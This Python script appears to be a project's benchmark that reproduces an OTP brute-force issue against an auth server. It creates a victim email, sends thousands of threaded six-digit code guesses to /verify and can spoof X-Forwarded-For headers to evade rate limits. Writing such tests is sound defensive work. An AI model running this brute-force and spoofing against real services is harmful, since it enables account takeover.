#!/usr/bin/env python3
"""The code brute force of issue 9, as an attacker runs it, against a running server.

    python3 bench/attack_otp.py http://127.0.0.1:9999 [guesses] [threads] [--spoof]

Asks for an email code for a fresh victim (POST /otp), then sends `guesses` (default 2000)
POST /verify {"type":"email","email":victim,"token":"NNNNNN"} over `threads` (default 32)
connections, walking the code space from 000000, and reports how many guesses reached the
verifier (403), how many were refused by a limit (429), and whether any returned a session.
With --spoof every guess carries a different X-Forwarded-For (which ferrotrue ignores unless
GOTRUE_RATE_LIMIT_HEADER names it). Standard library only.
"""

import json
import sys
import time
import urllib.error
import urllib.request
import uuid
from collections import Counter
from concurrent.futures import ThreadPoolExecutor


def post(base, path, body, headers=None):
    req = urllib.request.Request(
        base + path,
        data=json.dumps(body).encode(),
        headers={"content-type": "application/json", **(headers or {})},
        method="POST",
    )
    try:
        with urllib.request.urlopen(req, timeout=30) as resp:
            return resp.status, resp.read()
    except urllib.error.HTTPError as err:
        return err.code, err.read()


def main():
    args = [a for a in sys.argv[1:] if not a.startswith("--")]
    spoof = "--spoof" in sys.argv
    base = args[0].rstrip("/") if args else "http://127.0.0.1:9999"
    guesses = int(args[1]) if len(args) > 1 else 2000
    threads = int(args[2]) if len(args) > 2 else 32
    victim = f"victim-{uuid.uuid4().hex[:8]}@example.com"
    status, body = post(base, "/otp", {"email": victim})
    print(f"POST /otp for {victim}: {status} {body[:120]!r}")

    def guess(n):
        headers = {"x-forwarded-for": f"10.{n >> 16 & 255}.{n >> 8 & 255}.{n & 255}"} if spoof else {}
        status, body = post(base, "/verify", {"type": "email", "email": victim, "token": f"{n:06d}"}, headers)
        return status, b"access_token" in body

    started = time.monotonic()
    with ThreadPoolExecutor(threads) as pool:
        results = list(pool.map(guess, range(guesses)))
    elapsed = time.monotonic() - started
    statuses = Counter(s for s, _ in results)
    sessions = sum(1 for _, got in results if got)
    print(f"{guesses} guesses in {elapsed:.1f} s ({guesses / elapsed:.0f}/s): "
          + ", ".join(f"{k}: {v}" for k, v in sorted(statuses.items())))
    print(f"reached the verifier: {statuses.get(403, 0) + statuses.get(200, 0)}; sessions obtained: {sessions}")
    return 1 if sessions else 0


if __name__ == "__main__":
    sys.exit(main())
